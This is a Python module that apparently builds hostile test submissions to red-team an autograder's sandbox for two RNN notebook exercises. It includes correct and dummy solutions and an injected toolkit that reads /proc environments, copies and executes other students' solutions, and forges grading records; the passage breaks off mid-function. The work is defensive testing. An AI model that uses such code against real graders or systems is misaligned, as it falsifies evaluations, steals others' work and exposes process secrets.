"""Hostile and broken submissions for 02_hidden_state and 06_torch_rnn, written from the outside.

Written from the exercise contract (EXERCISES.md), DESIGN.md, the README and the student notebooks
only, without looking at the grader, the course package, the tests or the reference solutions.

Each `Case` builds one student folder. Its oracle is `max_score(case)`: the points of the test
cells of the graded names the case implements correctly (`case.honest`), read from the exercise
notebook's nbgrader metadata. Every hostile case tries to earn more than that (the points of the
names it leaves unimplemented or wrong, or points of other students); the honest-but-unusual cases
(`hostile=False`) must get full marks.

Cases whose names start with `rt02_a_` / `rt06_a_` plant something (a file in /tmp, a startup
file, a network server) that would give later students (graded after them, in name order) the
planter's correct code: if the sandbox leaks, those later students score above their maximum.

Every attack is bounded, so that a missing sandbox costs time, not the machine: memory at most
6 GiB, disk at most 2 GiB, at most 2000 processes, loops and daemons at most 20 minutes, and the
persistence payloads do nothing (and delete themselves) 30 minutes after they were planted.
Still, grade the hostile cases only inside the sandbox: without it they do what they say (raise
the scores in any gradebook.db they find for 15 minutes, plant startup files, stop or kill the
grader's process, leave daemons and files in /tmp).

Slow by design: rt02_slow_cells (about 11 minutes), and the cases that hang until the grader's
cell timeout stops them (rt02_hang_forged_outputs, rt02_wedge_builtins, rt06_stubborn_loop,
rt06_stop_parent until the total timeout).

`build_all(folder)` writes every case into folder/<assignment>/<student>.
"""

from __future__ import annotations

import base64
import json
import os
import re
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import nbformat

REPO = Path(__file__).resolve().parents[1]
NOTEBOOKS = {"02_hidden_state": "hidden_state.ipynb", "06_torch_rnn": "torch_rnn.ipynb"}
CATEGORIES = ("reading", "tampering", "escape", "resources", "forgery", "honest")
NET_PORT = 47606  # where rt06_a_net_server offers its code on the loopback interface

Edit = Callable[[nbformat.NotebookNode, Path, Path], None]


@dataclass(frozen=True)
class Case:
    assignment: str  # "02_hidden_state" or "06_torch_rnn"
    student: str  # folder name: [A-Za-z0-9_.-], unique, e.g. "rt02_read_solutions"
    category: str  # one of: reading, tampering, escape, resources, forgery, honest
    what: str  # one sentence: the attack
    honest: tuple[str, ...]  # graded functions implemented correctly
    build: Callable[[Path, Path], None]  # build(exercise_notebook_path, student_folder)
    hostile: bool = True  # False for the honest-but-unusual cases


# ---------------------------------------------------------------------------------------------
# Correct implementations (each cell self-contained: it needs no other solution cell)
# ---------------------------------------------------------------------------------------------

RNN_STEP_02 = '''
def check_step_inputs(X, H, W_xh, W_hh, b_h, activation):
    """Raise ValueError naming the first argument of an RNN step that has a wrong shape or value."""
    if np.ndim(X) != 2:
        raise ValueError(f"X must be 2-D (batch, inputs), got shape {np.shape(X)}")
    batch, inputs = np.shape(X)
    if np.ndim(H) != 2 or np.shape(H)[0] != batch:
        raise ValueError(f"H must be 2-D with {batch} rows, got shape {np.shape(H)}")
    hidden = np.shape(H)[1]
    if np.shape(W_xh) != (inputs, hidden):
        raise ValueError(f"W_xh must have shape {(inputs, hidden)}, got {np.shape(W_xh)}")
    if np.shape(W_hh) != (hidden, hidden):
        raise ValueError(f"W_hh must have shape {(hidden, hidden)}, got {np.shape(W_hh)}")
    if np.shape(b_h) not in ((hidden,), (1, hidden)):
        raise ValueError(f"b_h must have shape ({hidden},) or (1, {hidden}), got {np.shape(b_h)}")
    if not isinstance(activation, str) or activation not in ("tanh", "relu"):
        raise ValueError(f"activation must be 'tanh' or 'relu', got {activation!r}")


def rnn_step(X, H, W_xh, W_hh, b_h, activation="tanh"):
    """One RNN step: phi(X @ W_xh + H @ W_hh + b_h), shape (B, H)."""
    check_step_inputs(X, H, W_xh, W_hh, b_h, activation)
    Z = X @ W_xh + H @ W_hh + b_h
    return np.tanh(Z) if activation == "tanh" else np.maximum(Z, 0.0)
'''

RNN_STEP_CONCAT_02 = '''
def _concat_step_inputs(X, H, W_xh, W_hh, b_h, activation):
    """The checks of rnn_step, kept here so that this cell stands on its own."""
    if np.ndim(X) != 2:
        raise ValueError(f"X must be 2-D (batch, inputs), got shape {np.shape(X)}")
    batch, inputs = np.shape(X)
    if np.ndim(H) != 2 or np.shape(H)[0] != batch:
        raise ValueError(f"H must be 2-D with {batch} rows, got shape {np.shape(H)}")
    hidden = np.shape(H)[1]
    if np.shape(W_xh) != (inputs, hidden):
        raise ValueError(f"W_xh must have shape {(inputs, hidden)}, got {np.shape(W_xh)}")
    if np.shape(W_hh) != (hidden, hidden):
        raise ValueError(f"W_hh must have shape {(hidden, hidden)}, got {np.shape(W_hh)}")
    if np.shape(b_h) not in ((hidden,), (1, hidden)):
        raise ValueError(f"b_h must have shape ({hidden},) or (1, {hidden}), got {np.shape(b_h)}")
    if not isinstance(activation, str) or activation not in ("tanh", "relu"):
        raise ValueError(f"activation must be 'tanh' or 'relu', got {activation!r}")


def rnn_step_concat(X, H, W_xh, W_hh, b_h, activation="tanh"):
    """rnn_step computed with a single matrix product of [X, H] and [W_xh; W_hh]."""
    _concat_step_inputs(X, H, W_xh, W_hh, b_h, activation)
    stacked_inputs = np.concatenate([X, H], axis=1)
    stacked_weights = np.concatenate([W_xh, W_hh], axis=0)
    Z = stacked_inputs @ stacked_weights + b_h
    return np.tanh(Z) if activation == "tanh" else np.maximum(Z, 0.0)
'''

SOFTMAX_02 = '''
def softmax(O, axis=-1):
    """Numerically stable softmax of O along axis; same shape as O."""
    O = np.asarray(O)
    if not np.issubdtype(O.dtype, np.floating):
        O = O.astype(np.float64)
    if isinstance(axis, bool) or not isinstance(axis, (int, np.integer)):
        raise ValueError(f"axis must be an integer, got {axis!r}")
    if not -O.ndim <= axis < O.ndim:
        raise ValueError(f"axis {axis} is out of range for an array of {O.ndim} dimensions")
    exponentials = np.exp(O - O.max(axis=axis, keepdims=True))
    return exponentials / exponentials.sum(axis=axis, keepdims=True)
'''

RNN_OUTPUT_02 = '''
def rnn_output(H, W_hq, b_q):
    """Output probabilities softmax(H @ W_hq + b_q), shape (B, Q)."""
    if np.ndim(H) != 2:
        raise ValueError(f"H must be 2-D (batch, hidden), got shape {np.shape(H)}")
    hidden = np.shape(H)[1]
    if np.ndim(W_hq) != 2 or np.shape(W_hq)[0] != hidden:
        raise ValueError(f"W_hq must have {hidden} rows, got shape {np.shape(W_hq)}")
    outputs = np.shape(W_hq)[1]
    if np.shape(b_q) not in ((outputs,), (1, outputs)):
        raise ValueError(f"b_q must have shape ({outputs},) or (1, {outputs}), got {np.shape(b_q)}")
    logits = H @ W_hq + b_q
    exponentials = np.exp(logits - logits.max(axis=1, keepdims=True))
    return exponentials / exponentials.sum(axis=1, keepdims=True)
'''

RNN_FORWARD_06 = '''
def _forward_shape(value):
    return tuple(value.shape) if torch.is_tensor(value) else None


def rnn_forward(input, W_ih, W_hh, b_ih, b_hh, h_prev):
    """A one-layer tanh RNN over input (B, T, D), equal to nn.RNN(D, H, batch_first=True).

    Returns (output (B, T, H), h_n (1, B, H)).
    """
    shape = _forward_shape
    if shape(input) is None or len(shape(input)) != 3:
        raise ValueError(f"input must be a 3-D tensor (B, T, D), got shape {shape(input)}")
    batch, steps, features = input.shape
    if shape(W_hh) is None or len(shape(W_hh)) != 2 or W_hh.shape[0] != W_hh.shape[1]:
        raise ValueError(f"W_hh must be square (hidden, hidden), got shape {shape(W_hh)}")
    hidden = W_hh.shape[0]
    if shape(W_ih) != (hidden, features):
        raise ValueError(f"W_ih must have shape {(hidden, features)}, got {shape(W_ih)}")
    if shape(b_ih) != (hidden,):
        raise ValueError(f"b_ih must have shape {(hidden,)}, got {shape(b_ih)}")
    if shape(b_hh) != (hidden,):
        raise ValueError(f"b_hh must have shape {(hidden,)}, got {shape(b_hh)}")
    if shape(h_prev) != (batch, hidden):
        raise ValueError(f"h_prev must have shape {(batch, hidden)}, got {shape(h_prev)}")
    h = h_prev
    states = []
    for t in range(steps):
        h = torch.tanh(input[:, t] @ W_ih.T + b_ih + h @ W_hh.T + b_hh)
        states.append(h)
    return torch.stack(states, dim=1), h.unsqueeze(0)
'''

BIDIRECTIONAL_06 = '''
def _bidir_layer(x, W_ih, W_hh, b_ih, b_hh, h):
    """States (B, T, H) and last state (B, H) of one tanh layer read in time order."""
    states = []
    for t in range(x.shape[1]):
        h = torch.tanh(x[:, t] @ W_ih.T + b_ih + h @ W_hh.T + b_hh)
        states.append(h)
    return torch.stack(states, dim=1), h


def _bidir_direction(name, weights, features, hidden=None):
    """The hidden size of one direction's weights; ValueError naming the direction if wrong."""
    if not isinstance(weights, (tuple, list)) or len(weights) != 4:
        raise ValueError(f"{name} must be a tuple (W_ih, W_hh, b_ih, b_hh) of four tensors")
    if not all(torch.is_tensor(w) for w in weights):
        raise ValueError(f"{name} must hold four tensors (W_ih, W_hh, b_ih, b_hh)")
    W_ih, W_hh, b_ih, b_hh = weights
    if W_hh.dim() != 2 or W_hh.shape[0] != W_hh.shape[1]:
        raise ValueError(f"{name}: its W_hh must be square, got {tuple(W_hh.shape)}")
    size = W_hh.shape[0]
    if hidden is not None and size != hidden:
        raise ValueError(f"{name} has hidden size {size}, the forward direction {hidden}")
    if tuple(W_ih.shape) != (size, features):
        raise ValueError(f"{name}: its W_ih must have shape {(size, features)}")
    if tuple(b_ih.shape) != (size,) or tuple(b_hh.shape) != (size,):
        raise ValueError(f"{name}: its biases must have shape {(size,)}")
    return size


def bidirectional_rnn_forward(input, fwd, bwd, h0):
    """A bidirectional one-layer tanh RNN over input (B, T, D), like nn.RNN(bidirectional=True).

    fwd, bwd: (W_ih, W_hh, b_ih, b_hh) of each direction; h0 (2, B, H).
    Returns (output (B, T, 2H), h_n (2, B, H)).
    """
    if not torch.is_tensor(input) or input.dim() != 3:
        raise ValueError("input must be a 3-D tensor (B, T, D)")
    batch, _, features = input.shape
    hidden = _bidir_direction("fwd", fwd, features)
    _bidir_direction("bwd", bwd, features, hidden)
    if not torch.is_tensor(h0) or tuple(h0.shape) != (2, batch, hidden):
        shape = tuple(h0.shape) if torch.is_tensor(h0) else None
        raise ValueError(f"h0 must have shape {(2, batch, hidden)}, got {shape}")
    forward_states, forward_last = _bidir_layer(input, *fwd, h0[0])
    reversed_states, backward_last = _bidir_layer(torch.flip(input, dims=(1,)), *bwd, h0[1])
    backward_states = torch.flip(reversed_states, dims=(1,))
    output = torch.cat([forward_states, backward_states], dim=2)
    return output, torch.stack([forward_last, backward_last])
'''

STACKED_06 = '''
def _stacked_layer(x, W_ih, W_hh, b_ih, b_hh, h):
    """States (B, T, H) and last state (B, H) of one tanh layer."""
    states = []
    for t in range(x.shape[1]):
        h = torch.tanh(x[:, t] @ W_ih.T + b_ih + h @ W_hh.T + b_hh)
        states.append(h)
    return torch.stack(states, dim=1), h


def stacked_rnn_forward(input, layers, h0):
    """A stack of tanh RNN layers over input (B, T, D), like nn.RNN(num_layers=len(layers)).

    layers: list of (W_ih, W_hh, b_ih, b_hh), bottom layer first; h0 (L, B, H).
    Returns (output (B, T, H) of the top layer, h_n (L, B, H)).
    """
    if not torch.is_tensor(input) or input.dim() != 3:
        raise ValueError("input must be a 3-D tensor (B, T, D)")
    batch, _, features = input.shape
    if not torch.is_tensor(h0) or h0.dim() != 3 or h0.shape[1] != batch:
        shape = tuple(h0.shape) if torch.is_tensor(h0) else None
        raise ValueError(f"h0 must be 3-D (L, B, H) with B = {batch}, got {shape}")
    if not isinstance(layers, (list, tuple)) or len(layers) == 0:
        raise ValueError("layers must be a non-empty list of (W_ih, W_hh, b_ih, b_hh) tuples")
    if len(layers) != h0.shape[0]:
        raise ValueError(f"layers has {len(layers)} layers but h0 has {h0.shape[0]}")
    hidden, width = None, features
    for index, layer in enumerate(layers):
        if not isinstance(layer, (tuple, list)) or len(layer) != 4:
            raise ValueError(f"layers[{index}] must be a tuple (W_ih, W_hh, b_ih, b_hh)")
        if not all(torch.is_tensor(w) for w in layer):
            raise ValueError(f"layers[{index}] must hold four tensors")
        W_ih, W_hh, b_ih, b_hh = layer
        if W_hh.dim() != 2 or W_hh.shape[0] != W_hh.shape[1]:
            raise ValueError(f"layers[{index}]: W_hh must be square, got {tuple(W_hh.shape)}")
        hidden = W_hh.shape[0] if hidden is None else hidden
        if tuple(W_hh.shape) != (hidden, hidden):
            raise ValueError(f"layers[{index}]: W_hh must have shape {(hidden, hidden)}")
        if tuple(W_ih.shape) != (hidden, width):
            raise ValueError(f"layers[{index}]: W_ih must have shape {(hidden, width)}")
        if tuple(b_ih.shape) != (hidden,) or tuple(b_hh.shape) != (hidden,):
            raise ValueError(f"layers[{index}]: the biases must have shape {(hidden,)}")
        width = hidden
    if h0.shape[2] != hidden:
        raise ValueError(f"h0 must have {hidden} hidden units, got shape {tuple(h0.shape)}")
    x, finals = input, []
    for layer, h in zip(layers, h0):
        x, last = _stacked_layer(x, *layer, h)
        finals.append(last)
    return x, torch.stack(finals)
'''

CLASSIFIER_06 = '''
class RNNClassifier(nn.Module):
    """nn.RNN (batch_first) followed by nn.Linear on the hidden state of the last step."""

    def __init__(self, input_size, hidden_size, num_layers, num_classes):
        super().__init__()
        self.rnn = nn.RNN(input_size, hidden_size, num_layers, batch_first=True)
        self.fc = nn.Linear(hidden_size, num_classes)

    def forward(self, x):
        output, _ = self.rnn(x)
        return self.fc(output[:, -1, :])
'''

_CORRECT = {
    "02_hidden_state": {
        "rnn_step": RNN_STEP_02,
        "rnn_step_concat": RNN_STEP_CONCAT_02,
        "softmax": SOFTMAX_02,
        "rnn_output": RNN_OUTPUT_02,
    },
    "06_torch_rnn": {
        "rnn_forward": RNN_FORWARD_06,
        "bidirectional_rnn_forward": BIDIRECTIONAL_06,
        "stacked_rnn_forward": STACKED_06,
        "RNNClassifier": CLASSIFIER_06,
    },
}

# Wrong but quiet: right shapes, a constant value, never raises (so a test cell reaches its check).
_DUMMY = {
    "02_hidden_state": {
        "rnn_step": (
            "def check_step_inputs(*args):\n    pass\n\n\n"
            "def rnn_step(X, H, W_xh, W_hh, b_h, activation='tanh'):\n"
            "    return np.full((np.shape(X)[0], np.shape(W_hh)[-1]), 0.123)\n"
        ),
        "rnn_step_concat": (
            "def rnn_step_concat(X, H, W_xh, W_hh, b_h, activation='tanh'):\n"
            "    return np.full((np.shape(X)[0], np.shape(W_hh)[-1]), 0.123)\n"
        ),
        "softmax": "def softmax(O, axis=-1):\n    return np.full(np.shape(O), 0.123)\n",
        "rnn_output": (
            "def rnn_output(H, W_hq, b_q):\n"
            "    return np.full((np.shape(H)[0], np.shape(W_hq)[-1]), 0.123)\n"
        ),
    },
    "06_torch_rnn": {
        "rnn_forward": (
            "def rnn_forward(input, W_ih, W_hh, b_ih, b_hh, h_prev):\n"
            "    B, T, H = input.shape[0], input.shape[1], W_hh.shape[0]\n"
            "    return (torch.full((B, T, H), 0.123, dtype=input.dtype),\n"
            "            torch.full((1, B, H), 0.123, dtype=input.dtype))\n"
        ),
        "bidirectional_rnn_forward": (
            "def bidirectional_rnn_forward(input, fwd, bwd, h0):\n"
            "    B, T, H = input.shape[0], input.shape[1], fwd[1].shape[0]\n"
            "    return (torch.full((B, T, 2 * H), 0.123, dtype=input.dtype),\n"
            "            torch.full((2, B, H), 0.123, dtype=input.dtype))\n"
        ),
        "stacked_rnn_forward": (
            "def stacked_rnn_forward(input, layers, h0):\n"
            "    B, T, H, L = input.shape[0], input.shape[1], layers[0][1].shape[0], len(layers)\n"
            "    return (torch.full((B, T, H), 0.123, dtype=input.dtype),\n"
            "            torch.full((L, B, H), 0.123, dtype=input.dtype))\n"
        ),
        "RNNClassifier": (
            "class RNNClassifier(nn.Module):\n"
            "    def __init__(self, input_size, hidden_size, num_layers, num_classes):\n"
            "        super().__init__()\n"
            "        self.rnn = nn.RNN(input_size, hidden_size, num_layers, batch_first=True)\n"
            "        self.fc = nn.Linear(hidden_size, num_classes)\n\n"
            "    def forward(self, x):\n"
            "        return torch.full((x.shape[0], self.fc.out_features), 0.123, dtype=x.dtype)\n"
        ),
    },
}


def correct_code(assignment: str) -> dict[str, str]:
    """The code of each graded name's solution cell, correct and self-contained."""
    return {name: code.strip() + "\n" for name, code in _CORRECT[assignment].items()}


def dummy_code(assignment: str) -> dict[str, str]:
    """Wrong code per graded name that returns constant values of the right shape, never raising."""
    return dict(_DUMMY[assignment])


# ---------------------------------------------------------------------------------------------
# Points, read from the exercise notebook
# ---------------------------------------------------------------------------------------------


def exercise_notebook(assignment: str) -> Path:
    """The student version of an assignment's notebook in this repository."""
    return REPO / "exercises" / assignment / NOTEBOOKS[assignment]


def _nbgrader(cell: nbformat.NotebookNode) -> dict:
    return cell.get("metadata", {}).get("nbgrader", {}) or {}


def graded_names(notebook: nbformat.NotebookNode) -> list[str]:
    """The grade ids of the solution cells: by the contract, the graded names."""
    return [_nbgrader(c)["grade_id"] for c in notebook.cells if _nbgrader(c).get("solution")]


def tested_name(grade_id: str, names: list[str]) -> str | None:
    """The graded name a test cell tests: the longest name with grade_id test_<name>[_...]."""
    fits = [n for n in names if grade_id == f"test_{n}" or grade_id.startswith(f"test_{n}_")]
    return max(fits, key=len) if fits else None


def test_points(assignment: str) -> dict[str, tuple[str, float]]:
    """grade_id -> (tested graded name, points) for every test cell of the exercise notebook."""
    notebook = nbformat.read(exercise_notebook(assignment), as_version=4)
    names = graded_names(notebook)
    points = {}
    for cell in notebook.cells:
        meta = _nbgrader(cell)
        if meta.get("grade") and not meta.get("solution"):
            name = tested_name(meta["grade_id"], names)
            assert name is not None, f"test cell {meta['grade_id']} tests no graded name"
            points[meta["grade_id"]] = (name, float(meta.get("points", 0)))
    return points


def full_score(assignment: str) -> float:
    return sum(points for _, points in test_points(assignment).values())


def max_score(case: Case) -> float:
    """The most a case may earn: the points of the test cells of its correct functions."""
    return sum(p for name, p in test_points(case.assignment).values() if name in case.honest)


def min_score(case: Case) -> float:
    """The least a case must earn: full marks for the honest-but-unusual cases, else nothing."""
    return 0.0 if case.hostile else full_score(case.assignment)


# ---------------------------------------------------------------------------------------------
# Notebook building
# ---------------------------------------------------------------------------------------------


def _assignment_of(exercise: Path) -> str:
    return exercise.parent.name


def _student_notebook(
    exercise: Path, honest: tuple[str, ...], dummies: tuple[str, ...] = ()
) -> nbformat.NotebookNode:
    """The exercise notebook with the honest names solved and the dummies filled with wrong code."""
    assignment = _assignment_of(exercise)
    notebook = nbformat.read(exercise, as_version=4)
    good, bad = correct_code(assignment), dummy_code(assignment)
    for cell in notebook.cells:
        meta = _nbgrader(cell)
        if not meta.get("solution"):
            continue
        if meta["grade_id"] in honest:
            cell.source = good[meta["grade_id"]]
        elif meta["grade_id"] in dummies:
            cell.source = bad[meta["grade_id"]]
    return notebook


def _new_cell(source: str) -> nbformat.NotebookNode:
    cell = nbformat.v4.new_code_cell(source.strip() + "\n")
    cell.id = "rt-new"  # made unique when written
    return cell


def _index(notebook: nbformat.NotebookNode, grade_id: str) -> int:
    for i, cell in enumerate(notebook.cells):
        if _nbgrader(cell).get("grade_id") == grade_id:
            return i
    raise KeyError(grade_id)


def _test_ids(notebook: nbformat.NotebookNode, names: tuple[str, ...] | None = None) -> list[str]:
    """Grade ids of the test cells (of the given graded names, or all), in notebook order."""
    all_names = graded_names(notebook)
    ids = []
    for cell in notebook.cells:
        meta = _nbgrader(cell)
        is_test = meta.get("grade") and not meta.get("solution")
        if is_test and (names is None or tested_name(meta["grade_id"], all_names) in names):
            ids.append(meta["grade_id"])
    return ids


def _write(notebook: nbformat.NotebookNode, path: Path, validate: bool = True) -> None:
    """Write a notebook with unique, deterministic cell ids, valid by the nbformat schema."""
    seen: set[str] = set()
    for i, cell in enumerate(notebook.cells):
        if cell.get("id") in seen or not cell.get("id"):
            cell.id = f"rt-cell-{i}"
        seen.add(cell.id)
    if validate:
        nbformat.validate(notebook)
    path.parent.mkdir(parents=True, exist_ok=True)
    nbformat.write(notebook, str(path))


def _fill(template: str, exercise: Path, folder: Path, **values: object) -> str:
    """Substitute @ASSIGNMENT@, @NOTEBOOK@, @STUDENT@ (as text) and @KEY@ for each value (as a
    Python literal), in one pass: what is substituted is not scanned again."""
    assignment = _assignment_of(exercise)
    plain = {"ASSIGNMENT": assignment, "NOTEBOOK": NOTEBOOKS[assignment], "STUDENT": folder.name}
    literal = {key.upper(): repr(value) for key, value in values.items()}

    def substitute(match: re.Match) -> str:
        name = match.group(1)
        return literal.get(name, plain.get(name, match.group(0)))

    return re.sub(r"@([A-Z_]+)@", substitute, template)


def after_setup(template: str, **values: object) -> Edit:
    """An extra code cell right after the setup cell (after any added before it)."""

    def edit(notebook: nbformat.NotebookNode, exercise: Path, folder: Path) -> None:
        position = _index(notebook, "setup") + 1
        while position < len(notebook.cells) and notebook.cells[position].get("id") == "rt-new":
            position += 1
        cell = _new_cell(_fill(template, exercise, folder, **values))
        notebook.cells.insert(position, cell)

    return edit


def before_setup(template: str, **values: object) -> Edit:
    def edit(notebook: nbformat.NotebookNode, exercise: Path, folder: Path) -> None:
        cell = _new_cell(_fill(template, exercise, folder, **values))
        notebook.cells.insert(_index(notebook, "setup"), cell)

    return edit


def at_end(template: str, **values: object) -> Edit:
    def edit(notebook: nbformat.NotebookNode, exercise: Path, folder: Path) -> None:
        notebook.cells.append(_new_cell(_fill(template, exercise, folder, **values)))

    return edit


def after_tests_of(name: str, template: str, copies: int = 1, **values: object) -> Edit:
    """Extra code cells right after the last test cell of a graded name."""

    def edit(notebook: nbformat.NotebookNode, exercise: Path, folder: Path) -> None:
        position = _index(notebook, _test_ids(notebook, (name,))[-1]) + 1
        source = _fill(template, exercise, folder, **values)
        for _ in range(copies):
            notebook.cells.insert(position, _new_cell(source))

    return edit


def in_solution(name: str, template: str, **values: object) -> Edit:
    """Replace a graded name's solution cell by the given code (an attack in a graded cell)."""

    def edit(notebook: nbformat.NotebookNode, exercise: Path, folder: Path) -> None:
        notebook.cells[_index(notebook, name)].source = _fill(template, exercise, folder, **values)

    return edit


def notebook_case(
    honest: tuple[str, ...],
    *edits: Edit,
    dummies: tuple[str, ...] = (),
    toolkit: bool = False,
    notebook_name: str | None = None,
    subfolder: str | None = None,
    files: dict[str, str] | None = None,
) -> Callable[[Path, Path], None]:
    """A builder: the exercise with honest names solved, the toolkit cell, then the edits."""

    def build(exercise: Path, folder: Path) -> None:
        notebook = _student_notebook(exercise, honest, dummies)
        all_edits = ((after_setup(TOOLKIT),) if toolkit else ()) + edits
        for edit in all_edits:
            edit(notebook, exercise, folder)
        target = folder / subfolder if subfolder else folder
        _write(notebook, target / (notebook_name or exercise.name))
        for relative, text in (files or {}).items():
            path = folder / relative
            path.parent.mkdir(parents=True, exist_ok=True)
            path.write_text(_fill(text, exercise, folder))

    return build


def _visible_values(exercise: Path, names: tuple[str, ...]) -> dict[str, tuple[str, str]]:
    """key -> (kind, base64 of the .npy) of the shipped visible checks of the given names' tests.

    These ship beside every exercise, so any student has them.
    """
    store = exercise.parent / "visible_checks"
    notebook = nbformat.read(exercise, as_version=4)
    cells = set(_test_ids(notebook, names))
    values = {}
    for line in (store / "records.jsonl").read_text().splitlines():
        record = json.loads(line)
        if record["key"].split("/")[0] in cells:
            blob = (store / "values" / record["file"]).read_bytes()
            values[record["key"]] = (record["kind"], base64.b64encode(blob).decode())
    return values


# ---------------------------------------------------------------------------------------------
# Attack code that runs in the student's kernel
# ---------------------------------------------------------------------------------------------

# Shared helpers, put in a cell right after the setup cell: where are the repository, the record
# folder, the other students? (from modules, env vars, /proc of every ancestor, well-known places)
TOOLKIT = r'''
import json as _rt_json
import os as _rt_os
import pathlib as _rt_pathlib
import sys as _rt_sys
import time as _rt_time

RT_ASSIGNMENT = "@ASSIGNMENT@"
RT_NOTEBOOK = "@NOTEBOOK@"
RT_STUDENT = "@STUDENT@"
RT_SKIP = ("/proc", "/sys", "/dev", "/usr", "/lib", "/bin", "/sbin", "/etc", "/boot", "/run",
           "/var/lib", "/var/cache", "/snap")


def _rt_ancestors():
    pids, pid = [], "self"
    for _ in range(16):
        try:
            with open(f"/proc/{pid}/status") as status:
                ppid = int(next(line for line in status if line.startswith("PPid:")).split()[1])
        except Exception:
            break
        if ppid <= 0:
            break
        pids.append(ppid)
        pid = ppid
    return pids


def _rt_hints():
    """Absolute paths named anywhere this kernel can look."""
    hints = []
    for name in ("rnncourse", "autograder", "mytorch"):
        module = _rt_sys.modules.get(name)
        if module is None:
            try:
                module = __import__(name)
            except Exception:
                module = None
        hints += [getattr(module, "__file__", None) or ""]
        hints += list(getattr(module, "__path__", None) or [])
    hints += [_rt_sys.prefix, _rt_sys.base_prefix, _rt_os.getcwd(), _rt_os.path.expanduser("~")]
    hints += list(_rt_sys.path)
    hints += [part for value in _rt_os.environ.values() for part in value.split(_rt_os.pathsep)]
    for pid in ["self", *_rt_ancestors()]:
        try:
            hints.append(_rt_os.readlink(f"/proc/{pid}/cwd"))
        except Exception:
            pass
        for what in ("cmdline", "environ"):
            try:
                with open(f"/proc/{pid}/{what}", "rb") as handle:
                    raw = handle.read()
            except Exception:
                continue
            for item in raw.split(b"\0"):
                text = item.decode(errors="ignore")
                hints += [text, text.split("=", 1)[-1]]
    hints += ["/work/main", "/work", "/root", "/home", "/srv", "/opt", "/tmp", "/mnt"]
    return [h for h in hints if isinstance(h, str) and h.startswith("/")]


def _rt_roots():
    """Each hinted folder and every folder above it."""
    seen, roots = set(), []
    for hint in _rt_hints():
        path = _rt_pathlib.Path(hint)
        for folder in [path, *path.parents]:
            text = str(folder)
            if text in seen or text == "/" or text.startswith(RT_SKIP):
                continue
            seen.add(text)
            roots.append(folder)
    return roots


def _rt_walk(tops, match, depth=4, budget=40000, seconds=20):
    """Files under tops (a bounded walk, no symlinked folders) for which match(path) holds."""
    found, deadline, seen = [], _rt_time.monotonic() + seconds, set()
    stack = [(_rt_pathlib.Path(top), 0) for top in tops]
    while stack and budget > 0 and _rt_time.monotonic() < deadline:
        folder, level = stack.pop()
        try:
            real = folder.resolve()
            if real in seen:
                continue
            seen.add(real)
            entries = list(_rt_os.scandir(folder))
        except Exception:
            continue
        for entry in entries:
            budget -= 1
            try:
                if entry.is_dir(follow_symlinks=False):
                    if level < depth and not entry.path.startswith(RT_SKIP):
                        stack.append((_rt_pathlib.Path(entry.path), level + 1))
                elif entry.is_file() and match(_rt_pathlib.Path(entry.path)):
                    found.append(_rt_pathlib.Path(entry.path))
            except Exception:
                pass
    return found


def _rt_solution_sources(path):
    """grade_id -> source of the filled-in solution cells of a notebook file."""
    try:
        with open(path, encoding="utf-8") as handle:
            notebook = _rt_json.load(handle)
    except Exception:
        return {}
    sources = {}
    for cell in notebook.get("cells", []) if isinstance(notebook, dict) else []:
        meta = (cell.get("metadata") or {}).get("nbgrader") or {}
        source = cell.get("source", "")
        source = "".join(source) if isinstance(source, list) else str(source)
        if meta.get("solution") and "NotImplementedError" not in source:
            lines = [line for line in source.splitlines() if "### " not in line]
            sources[meta.get("grade_id")] = "\n".join(lines)
    return sources


def _rt_adopt(sources, names):
    """Run the found code of the names still missing here; the names adopted."""
    adopted = []
    for name in names:
        code = sources.get(name)
        if not code or name in adopted:
            continue
        try:
            exec(code, globals())
            adopted.append(name)
        except Exception as error:
            print("rt: could not adopt", name, type(error).__name__)
    print("rt: adopted", adopted)
    return adopted


def _rt_record_dirs():
    """Folders that look like where this kernel's checks are recorded."""
    found, since = set(), _rt_time.time() - 3600

    def consider(value):
        try:
            path = _rt_pathlib.Path(value)
            if path.is_file():
                path = path.parent
            if path.is_dir() and str(path) != "/" and not str(path).startswith(RT_SKIP):
                found.add(path)
        except Exception:
            pass

    for value in _rt_os.environ.values():
        for part in value.split(_rt_os.pathsep):
            consider(part)
    stack, seen = [globals().get("check")], set()
    while stack and len(seen) < 100:
        obj = stack.pop()
        if obj is None or id(obj) in seen:
            continue
        seen.add(id(obj))
        for value in list(getattr(obj, "__dict__", {}).values()):
            if isinstance(value, (str, _rt_os.PathLike)):
                consider(_rt_os.fspath(value))
            elif hasattr(value, "__dict__") and not isinstance(value, type):
                stack.append(value)
    for fd in _rt_os.listdir("/proc/self/fd"):
        try:
            consider(_rt_os.readlink(f"/proc/self/fd/{fd}"))
        except Exception:
            pass
    recent = lambda p: p.suffix in (".npy", ".jsonl", ".json") and p.stat().st_mtime >= since
    for top in (_rt_os.getcwd(), _rt_os.path.expanduser("~"), "/tmp"):
        for path in _rt_walk([top], recent, depth=4, seconds=5):
            consider(path)
    return sorted(found)


def _rt_forge(forged, cell_index):
    """Append records (key -> (kind, base64 .npy)) to every record index found; their number."""
    import base64
    written, since = 0, _rt_time.time() - 3600
    recent = lambda p, suffixes: p.suffix in suffixes and p.stat().st_mtime >= since
    for folder in _rt_record_dirs():
        indexes = _rt_walk([folder], lambda p: recent(p, (".jsonl", ".json")), depth=2, seconds=3)
        for index in indexes[:20]:
            try:
                text = index.read_text()
            except Exception:
                continue
            if "rt_forged" in text:
                continue
            try:
                parsed = _rt_json.loads(text)
            except Exception:
                parsed = None
            if isinstance(parsed, list):
                records = parsed
            else:
                records = []
                for line in text.splitlines():
                    try:
                        records.append(_rt_json.loads(line))
                    except Exception:
                        pass
            records = [r for r in records if isinstance(r, dict) and "key" in r
                       and ("file" in r or "kind" in r)]
            if not records:
                continue
            template = records[-1]
            own = str(template["key"]).split("/")[0]
            new = []
            for key, (kind, blob) in forged.items():
                target = key.split("/")[0]
                record = dict(template, key=key)
                if "kind" in record:
                    record["kind"] = kind
                name = "rt_forged_" + key.replace("/", "__") + ".npy"
                if isinstance(template.get("file"), str):
                    record["file"] = str(_rt_pathlib.Path(template["file"]).with_name(name))
                    for base in (index.parent, index.parent / "values"):
                        destination = base / record["file"]
                        if destination.parent.is_dir():
                            destination.write_bytes(base64.b64decode(blob))
                for field, value in template.items():
                    if field in ("key", "file", "kind"):
                        continue
                    if isinstance(value, str) and own in value:
                        record[field] = value.replace(own, target)
                    elif type(value) is int and own in cell_index and target in cell_index:
